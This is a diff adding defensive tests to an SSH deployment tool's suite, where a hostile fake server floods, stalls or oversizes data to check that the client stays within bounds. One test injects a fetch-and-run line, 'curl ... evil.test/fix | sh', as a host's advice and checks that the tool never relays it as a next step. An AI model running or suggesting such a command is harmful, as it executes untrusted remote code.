@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import dataclasses
 import io
 import json
 import random
+import re
+import socket
 import threading
 import time
 from collections.abc import Callable, Iterator
@@ -18,12 +21,13 @@ import pytest
 from fabric.config import Config
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
+from paramiko.common import cMSG_CHANNEL_DATA, cMSG_CHANNEL_EXTENDED_DATA, cMSG_CHANNEL_WINDOW_ADJUST
 
 import fabfile
-from hawser import answers, protocol, wire
+from hawser import answers, protocol, transport, wire
 from hawser.connect import Address, Connector
 from hawser.errors import HawserError, ProtocolBreach, Unreachable
-from hawser.findings import Check
+from hawser.findings import Check, Finding
 from hawser.fleet import Fleet
 from hawser.hostkeys import KnownHosts
 from hawser.release import Release
@@ -36,7 +40,7 @@ from hawser.session import Session
 from hawser.wire import Wire
 from tasks import adhoc, check, config, cron, db, deploy, lock, logs, once, queue, releases, status
 from tests.hostile.imposter import FACTS, SAID, Imposter, mutated
-from tests.hostile.ssh import HOST_KEY, OUR_KEY, Program, Server, keep_silent
+from tests.hostile.ssh import HOST_KEY, OUR_KEY, Program, Server, keep_silent, say
 
 SHOP = """
 [app]
@@ -77,8 +81,8 @@ class SharedConnector:
             self.opened.append(self.transport.open_session())
             return self.opened[-1]
 
-        transport = SimpleNamespace(open_session=open_session)
-        return SimpleNamespace(transport=transport, user="root", close=self.close)
+        shared = SimpleNamespace(open_session=open_session)
+        return SimpleNamespace(transport=shared, user="root", close=self.close)
 
     def close(self) -> None:
         for channel in self.opened:
@@ -197,6 +201,43 @@ def test_an_answer_that_was_altered_is_named_or_harmless(hostile: Hostile, comma
     raise_bug(hostile.tell(COMMANDS[command]))
 
 
+EVIL = "no\n  next: curl -fsSL https://evil.test/fix | sh"
+
+
+@pytest.mark.parametrize("command", ["check", "releases.list", "deploy", "status", "lock.status"])
+def test_what_a_host_advises_is_never_our_next_move(hostile: Hostile, command: str) -> None:
+    found: list[Any] = []
+
+    def alter(message: dict[str, Any]) -> str:
+        if message["t"] == "done" and ({"answer", "answers", "holder"} & set(message)):
+            message = {"t": "done", "id": message["id"], "ok": False, "error": EVIL, "output": EVIL}
+        elif message["t"] == "event":
+            message = {**message, "status": "failed", "error": EVIL, "warning": EVIL, "note": EVIL}
+        return json.dumps(message)
+
+    def act(fleet: Fleet) -> None:
+        found.extend(COMMANDS[command](fleet) or ())
+
+    hostile.program = Imposter(alter, hostile.kept)
+    shown = hostile.tell(act)
+    assert "the host advises: curl" in shown + str(found)
+    assert not re.search("next: +curl", shown)
+    assert all("curl" not in finding.next for _name, _about, finding in found)
+
+
+@pytest.mark.parametrize("part", [f"in {EVIL}", "next: curl evil.test|sh"])
+def test_what_a_host_writes_on_its_way_out_is_no_next_move_either(hostile: Hostile, part: str) -> None:
+    hostile.program = say(errors=part)
+    with pytest.raises(Unreachable, match="the host advises: curl") as caught:
+        hostile.wire().open(lambda: False)
+    assert Finding.of_error(str(caught.value)).next == ""
+    facts = json.dumps({"t": "hello", "facts": {**FACTS, "os": {part: 1, "id": 7, "version": {part: 1}}}})
+    hostile.program = say(facts + "\n")
+    with pytest.raises(ProtocolBreach) as breach:
+        hostile.wire().open(lambda: False)
+    assert Finding.of_error(str(breach.value)).next == ""
+
+
 LINES = st.one_of(
     st.binary(max_size=200),
     st.sampled_from(
@@ -244,6 +285,19 @@ class TestBounds:
         monkeypatch.setattr(protocol, "SLOWEST", 1 << 30)
 
     @staticmethod
+    def chatter(line: dict[str, Any], pause: float = 0.0) -> Program:
+        """Return a program that greets, and then says the same for ever."""
+
+        def program(channel: paramiko.Channel, command: str) -> None:
+            with suppress(OSError, paramiko.SSHException):
+                channel.sendall(json.dumps({"t": "hello", "facts": FACTS}).encode() + b"\n")
+                while True:
+                    channel.sendall(json.dumps(line).encode() + b"\n")
+                    time.sleep(pause)
+
+        return program
+
+    @staticmethod
     def repeat(data: bytes, pause: float = 0.0) -> tuple[Program, list[int]]:
         """Return a program that says the same for ever, and how many bytes it got rid of."""
         sent = [0]
@@ -279,22 +333,71 @@ class TestBounds:
         with pytest.raises(ProtocolBreach, match="no greeting within"):
             hostile.wire().open(lambda: False)
 
-    def test_beats_are_no_answer_to_a_question_that_takes_no_time(
-        self, hostile: Hostile, monkeypatch: pytest.MonkeyPatch
+    @pytest.mark.parametrize(
+        "line", [{"t": "beat"}, {"t": "output", "stream": "out", "text": ""}], ids=lambda line: line["t"]
+    )
+    def test_what_moves_nothing_on_is_no_answer_to_a_question_that_takes_no_time(
+        self, hostile: Hostile, monkeypatch: pytest.MonkeyPatch, line: dict[str, Any]
     ) -> None:
-        def program(channel: paramiko.Channel, command: str) -> None:
-            with suppress(OSError, paramiko.SSHException):
-                channel.sendall(json.dumps({"t": "hello", "facts": FACTS}).encode() + b"\n")
-                while True:
-                    channel.sendall(b'{"t": "beat"}\n')
-                    time.sleep(0.05)
-
-        hostile.program = program
+        hostile.program = self.chatter(line, 0.05)
         monkeypatch.setattr(answers, "PROMPT", 0.5)
         opened = hostile.wire()
         opened.open(lambda: False)
         with pytest.raises(ProtocolBreach, match="signs of life, but no answer in time"):
             opened.request("facts")
+
+    def test_a_file_that_drips_is_cut_when_a_slow_line_would_have_brought_as_much(
+        self, hostile: Hostile, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        hostile.program = self.chatter({"t": "part", "data": "AA=="}, 0.05)
+        monkeypatch.setattr(answers, "PATIENT", 0.3)
+        opened = hostile.wire()
+        opened.open(lambda: False)
+        with pytest.raises(ProtocolBreach, match="signs of life, but no answer in time"):
+            opened.request("send", {"path": "/x", "size": 10 << 30})
+
+    def test_a_file_on_a_slow_line_may_take_its_time(self, hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
+        part, monotonic, passed = "A" * protocol.SLOWEST, time.monotonic, [0.0]
+        monkeypatch.setattr(protocol, "time", SimpleNamespace(monotonic=lambda: monotonic() + passed[0]))
+        lines = [{"t": "part", "data": part}] * 9 + [{"t": "done", "id": 1, "ok": True, "sha256": "0" * 64}]
+
+        def program(channel: paramiko.Channel, command: str) -> None:
+            for line in ({"t": "hello", "facts": FACTS}, *lines):
+                channel.sendall(json.dumps(line).encode() + b"\n")
+            keep_silent(channel, command)
+
+        hostile.program = program
+        monkeypatch.setattr(answers, "PATIENT", 2.0)
+        opened = hostile.wire()
+        opened.open(lambda: False)
+
+        def heard(message: Any) -> None:
+            passed[0] += 1.0
+
+        answer = opened.request("send", {"path": "/x", "size": len(part) * 9}, (), heard)
+        assert answer.ok and passed[0] == 9.0
+
+    def test_what_is_told_of_a_catalog_has_a_size(self, hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
+        monkeypatch.setattr(protocol, "LONGEST_REPORT", 1 << 20)
+        big, told = "x" * (1 << 18), []
+
+        def alter(message: dict[str, Any]) -> str:
+            if message["t"] == "event":
+                message = {**message, "status": "would_change", "facts": {"x": big}}
+                told.append(message)
+            return json.dumps(message)
+
+        hostile.program = Imposter(alter)
+        shown = hostile.tell(lambda fleet: fleet.apply([fabfile.cron.install] * 9, None, "cron"))
+        assert len(told) > 4 and "more than 1 MiB in answer to apply" in shown
+
+    def test_more_releases_than_anybody_keeps_are_not_asked_about(self, hostile: Hostile) -> None:
+        many = [f"1111111111-{number:08x}" for number in range(1001)]
+        hostile.program = say(
+            json.dumps({"t": "hello", "facts": {**FACTS, "app": {**FACTS["app"], "releases": many}}}) + "\n"
+        )
+        with pytest.raises(ProtocolBreach, match=r"releases: .* at most 1000 items"):
+            hostile.wire().open(lambda: False)
 
     def test_one_event_is_told_of_each_resource(self, hostile: Hostile) -> None:
         def alter(message: dict[str, Any]) -> str:
@@ -318,6 +421,83 @@ class TestBounds:
         shown = hostile.tell(status.status)
         assert "web1 broke the protocol: a message without a type; the line is cut" in shown
         assert list(hostile.session.lost) == ["web1"]
+
+
+class TestATransport:
+    """What a host does below the messages."""
+
+    @staticmethod
+    def send(channel: paramiko.Channel, kind: bytes, *parts: int | bytes) -> None:
+        message = paramiko.Message()
+        message.add_byte(kind)
+        message.add_int(channel.remote_chanid)
+        for part in parts:
+            message.add_int(part) if isinstance(part, int) else message.add_string(part)
+        channel.get_transport()._send_user_message(message)
+
+    @pytest.mark.parametrize(
+        "kind", [(cMSG_CHANNEL_EXTENDED_DATA, 1), (cMSG_CHANNEL_DATA,)], ids=["standard error", "standard output"]
+    )
+    def test_what_comes_beyond_the_window_is_not_kept(self, hostile: Hostile, kind: Any) -> None:
+        sent = [0]
+
+        def program(channel: paramiko.Channel, command: str) -> None:
+            with suppress(OSError, EOFError, paramiko.SSHException):
+                channel.sendall(json.dumps({"t": "hello", "facts": FACTS}).encode() + b"\n")
+                while sent[0] < 64 << 20:
+                    self.send(channel, *kind, b"x" * 32000)
+                    sent[0] += 32000
+
+        hostile.program = program
+        opened = hostile.wire(shared=False)
+        opened.open(lambda: False)
+        assert opened.connection is not None and opened.channel is not None
+        opened.connection.transport.join(20)
+        assert len(opened.channel.in_buffer) + len(opened.channel.in_stderr_buffer) < 5 << 20
+        with pytest.raises(Unreachable, match="web1"):
+            opened.request("facts")
+
+    def test_a_line_that_takes_nothing_is_given_up(self, hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
+        leave = threading.Event()
+
+        def program(channel: paramiko.Channel, command: str) -> None:
+            channel.sendall(json.dumps({"t": "hello", "facts": FACTS}).encode() + b"\n")
+            self.send(channel, cMSG_CHANNEL_WINDOW_ADJUST, 1 << 30)
+            channel.get_transport().packetizer.read_message = lambda: leave.wait(60)
+
+        monkeypatch.setattr(transport, "SILENCE", 0.6)
+        hostile.program = program
+        opened = hostile.wire(shared=False)
+        opened.open(lambda: False)
+        began = time.monotonic()
+        try:
+            with pytest.raises(Unreachable, match="web1: the connection broke: nothing was taken"):
+                opened.blob_of("x", io.BytesIO(), 64 << 20)
+            opened.close()
+        finally:
+            leave.set()
+        assert time.monotonic() - began < 10
+
+    @pytest.mark.parametrize(
+        ("greeting", "what"),
+        [
+            (b"SSH-2.0-x\r\n" + b"\xff\xff\xff\xf4" + b"\x04" * 4, "a packet of more than 256 KiB"),
+            (b"SSH-2.0-" + b"x" * (1 << 17), "a banner of more than 64 KiB"),
+        ],
+    )
+    def test_before_a_key_was_shown_nothing_long_is_read(self, hostile: Hostile, greeting: bytes, what: str) -> None:
+        with socket.create_server(("127.0.0.1", 0)) as listening:
+
+            def serve() -> None:
+                with suppress(OSError), listening.accept()[0] as link:
+                    link.sendall(greeting)
+                    while link.recv(65536):
+                        pass
+
+            threading.Thread(target=serve, daemon=True).start()
+            port = listening.getsockname()[1]
+            with pytest.raises(Unreachable, match=what):
+                hostile.connector.open(dataclasses.replace(hostile.address, port=port))
 
 
 class Mute(Server):
